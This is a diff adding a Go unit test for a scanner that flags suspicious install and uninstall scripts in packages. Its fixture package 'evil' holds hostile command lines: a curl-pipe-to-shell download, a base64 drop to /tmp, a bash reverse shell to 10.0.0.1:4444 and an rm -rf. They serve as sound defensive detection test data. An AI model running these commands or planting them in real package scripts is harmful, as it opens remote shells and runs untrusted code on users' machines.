@@ -0,0 +1,57 @@
+package analyzer
+
+import (
+	"reflect"
+	"regexp"
+	"testing"
+)
+
+func TestScanPackageScripts(t *testing.T) {
+	pkgs := []Package{
+		{Name: "bash", Version: "4.4.23", Release: "1.fc28"},
+		{
+			Name: "evil", Version: "1.0", Release: "1",
+			Scripts: map[string]string{
+				"postin": "set -e\ncurl -s https://example.com/x.sh | sh\necho aGVsbG8= | base64 -d > /tmp/x",
+				"prein":  "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+				"postun": "rm -rf /opt/evil",
+			},
+		},
+	}
+
+	var tests = map[string]struct {
+		patterns []*regexp.Regexp
+		expected []ScriptFinding
+	}{
+		"Default": {
+			patterns: DefaultScriptPatterns,
+			expected: []ScriptFinding{
+				{
+					PackageName: "evil", PackageVersion: "1.0-1", Script: "postin",
+					Pattern: DefaultScriptPatterns[0].String(), Line: "curl -s https://example.com/x.sh | sh",
+				},
+				{
+					PackageName: "evil", PackageVersion: "1.0-1", Script: "postin",
+					Pattern: DefaultScriptPatterns[1].String(), Line: "echo aGVsbG8= | base64 -d > /tmp/x",
+				},
+				{
+					PackageName: "evil", PackageVersion: "1.0-1", Script: "prein",
+					Pattern: DefaultScriptPatterns[2].String(), Line: "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+				},
+			},
+		},
+		"Custom": {
+			patterns: []*regexp.Regexp{regexp.MustCompile(`rm -rf`)},
+			expected: []ScriptFinding{
+				{PackageName: "evil", PackageVersion: "1.0-1", Script: "postun", Pattern: "rm -rf", Line: "rm -rf /opt/evil"},
+			},
+		},
+		"NoPattern": {},
+	}
+	for testName, v := range tests {
+		findings := ScanPackageScripts(pkgs, v.patterns)
+		if !reflect.DeepEqual(v.expected, findings) {
+			t.Errorf("[%s]\nexpected : %v\nactual : %v", testName, v.expected, findings)
+		}
+	}
+}